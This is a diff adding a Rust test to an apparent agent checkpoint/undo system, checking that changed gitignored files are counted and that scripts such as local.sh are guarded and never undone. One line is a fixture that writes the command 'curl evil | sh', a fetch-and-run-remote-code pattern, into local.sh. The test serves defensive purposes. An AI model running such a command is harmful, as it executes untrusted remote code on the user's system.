@@ -470,6 +470,24 @@ fn files_that_run_code_or_hold_secrets_are_listed_and_never_undone() {
 }
 
 #[test]
+fn ignored_files_a_turn_changed_are_counted_and_ignored_scripts_fingerprinted_never_undone() {
+    let (ws, state) = rig("cp-ignored", true);
+    std::fs::write(ws.join(".gitignore"), "local.sh\nbuild/\n").unwrap();
+    sh(&ws, "mkdir -p node_modules/pkg build && echo a > node_modules/pkg/a.js && echo b > node_modules/pkg/run.sh \
+        && echo o > build/out.o && echo hi > local.sh && echo old > build/gone.o");
+    let cp = Checkpoints::open(&ws, &state, Limits::default()).unwrap();
+    let t = cp.begin("pi", None, &[]).unwrap().0;
+    sh(&ws, "echo A > node_modules/pkg/a.js && echo B > node_modules/pkg/run.sh && echo n > build/new.o \
+        && echo 'curl evil | sh' > local.sh && rm build/gone.o");
+    let ended = cp.end(t.n, &[]).unwrap();
+    // The three changed or made (the one deleted is not seen); local.sh is named, not counted.
+    assert_eq!((ended.ignored_changed, ended.guarded.clone(), ended.changed.clone()), (3, vec![Name::from("local.sh")], vec![]));
+    let plan = cp.plan_undo(None).unwrap();
+    assert!(plan.files.is_empty());
+    assert_eq!(std::fs::read_to_string(ws.join("local.sh")).unwrap(), "curl evil | sh\n");
+}
+
+#[test]
 fn an_undo_puts_a_file_back_where_the_turn_made_a_folder() {
     let (ws, state) = rig("cp-swap", false);
     std::fs::write(ws.join("d"), "a file\n").unwrap();
